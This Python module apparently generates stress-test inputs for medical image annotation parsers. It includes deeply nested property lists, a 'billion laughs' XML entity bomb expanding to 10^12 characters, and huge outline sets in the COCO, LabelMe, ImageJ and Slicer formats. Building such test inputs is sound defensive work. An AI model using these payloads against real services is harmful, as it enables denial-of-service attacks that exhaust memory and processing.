"""Annotations: many outlines around all points, deep nesting, entities."""

from __future__ import annotations

import io
import json
import plistlib
import zipfile
from functools import partial
from typing import Any

import numpy as np

from attack.inputs import SPACING, Input


def property_list(depth: int = 100_000) -> bytes:
    head = b'<?xml version="1.0"?><plist version="1.0">'
    return head + b"<array>" * depth + b"</array>" * depth + b"</plist>"


def property_list_of_dicts(depth: int = 100_000) -> bytes:
    head = b'<?xml version="1.0"?><plist version="1.0"><dict><key>Images</key>'
    return head + b"<dict><key>a</key>" * depth + b"</dict>" * depth + b"</dict></plist>"


def laughs(depth: int = 12) -> bytes:
    """Return entities that expand to 10^12 characters."""
    lines = [f'<!ENTITY e0 "{"w" * 10}">']
    lines += [f'<!ENTITY e{k} "{f"&e{k - 1};" * 10}">' for k in range(1, depth)]
    doctype = f"<!DOCTYPE plist [{''.join(lines)}]>"
    return f'<?xml version="1.0"?>{doctype}<plist version="1.0"><string>&e{depth - 1};</string></plist>'.encode()


def inbreast_of(rois: list[dict[str, Any]]) -> bytes:
    return plistlib.dumps({"Images": [{"ImageIndex": 0, "NumberOfROIs": len(rois), "ROIs": rois}]})


AROUND = [[10.0, 10.0], [3000.0, 10.0], [3000.0, 4000.0], [10.0, 4000.0]]


def around_all(n: int = 4_000, n_corners: int = 4) -> list[list[list[float]]]:
    """Return so many outlines, each around all places."""
    turn = np.linspace(0, 2 * np.pi, n_corners, endpoint=False)
    return [
        np.column_stack([1500 + (1000 + k / n) * np.cos(turn), 2000 + (1000 + k / n) * np.sin(turn)]).tolist()
        for k in range(n)
    ]  # fmt: skip


def inbreast_outlines(name: str, n: int = 4_000, n_corners: int = 40) -> bytes:
    return inbreast_of([
        {"Name": name, "Point_px": [f"({x}, {y})" for x, y in line], "Area": 1.0}
        for line in around_all(n, n_corners)
    ])  # fmt: skip


def coco(segmentations: list[Any], **more: Any) -> bytes:
    return json.dumps({
        "images": [{"id": 1, "file_name": "a.png", "height": 4096, "width": 3328}],
        "categories": [{"id": 1, "name": "calcification"}, {"id": 2, "name": "cluster"}],
        "annotations": [{"id": k, "image_id": 1, "category_id": 1, "segmentation": one} | more
                        for k, one in enumerate(segmentations)],
    }).encode()  # fmt: skip


def coco_outlines(n: int = 4_000, category: int = 1) -> bytes:
    lines = [[np.ravel(line).tolist()] for line in around_all(n, 40)]
    return coco(lines, category_id=category)


def labelme(shapes: list[dict[str, Any]]) -> bytes:
    return json.dumps({"version": "5", "shapes": shapes, "imagePath": "a.png", "imageHeight": 4096, "imageWidth": 3328}).encode()  # fmt: skip


def labelme_outlines(label: str, n: int = 4_000) -> bytes:
    return labelme([
        {"label": label, "points": line, "shape_type": "polygon"} for line in around_all(n, 40)
    ])  # fmt: skip


def slicer(points: list[list[float]], kind: str = "Fiducial") -> dict[str, Any]:
    return {
        "type": kind, "coordinateSystem": "LPS", "coordinateUnits": "mm",
        "controlPoints": [{"id": str(k), "label": f"F-{k}", "position": [*p, 0.0]} for k, p in enumerate(points)],
    }  # fmt: skip


def slicer_outlines(n: int = 2_000) -> bytes:
    curves = [slicer(line, "ClosedCurve") for line in around_all(n, 40)]
    dots = [[1400 + k % 60, 1900 + k // 60] for k in range(2_000)]
    return json.dumps({"markups": [*curves, slicer(dots)]}).encode()


def roi(points: Any) -> bytes:
    import roifile

    return roifile.ImagejRoi.frompoints(np.asarray(points, np.float32)).tobytes()


def roi_outlines(n: int = 4_000) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for k, line in enumerate(around_all(n, 40)):
            archive.writestr(f"{k}.roi", roi(line))
    return out.getvalue()


ANNOTATIONS = [
    Input("a property list 100,000 deep", property_list),
    Input("dictionaries 100,000 deep", property_list_of_dicts),
    Input("entities of 10^12 characters", laughs),
    *(Input(f"4,000 outlines named {name} in a property list", partial(inbreast_outlines, name)) for name in ("Calcification", "Cluster", "Mass")),
    Input("4,000 outlines in COCO", coco_outlines),
    Input("4,000 clusters in COCO", partial(coco_outlines, category=2), SPACING),
    Input("4,000 outlines in LabelMe", partial(labelme_outlines, "calcification"), SPACING),
    Input("4,000 clusters in LabelMe", partial(labelme_outlines, "cluster"), SPACING),
    Input("4,000 outlines in ImageJ", roi_outlines, SPACING),
    Input("2,000 curves around 2,000 points in Slicer", slicer_outlines),
    Input("one outline of 999,999 corners", lambda: labelme([{"label": "calc", "points": around_all(1, 999_999)[0], "shape_type": "polygon"}]), SPACING),
]  # fmt: skip
